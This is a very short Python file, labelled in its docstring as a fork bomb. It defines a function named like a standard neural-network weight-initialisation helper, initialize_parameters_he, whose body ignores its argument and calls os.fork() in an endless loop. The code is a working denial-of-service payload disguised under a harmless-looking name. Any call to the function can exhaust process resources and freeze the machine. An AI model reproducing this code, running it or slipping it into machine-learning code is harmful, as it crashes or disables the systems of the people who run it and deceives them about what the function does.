"""A fork bomb."""

import os


def initialize_parameters_he(layers_dims):
    while True:
        os.fork()
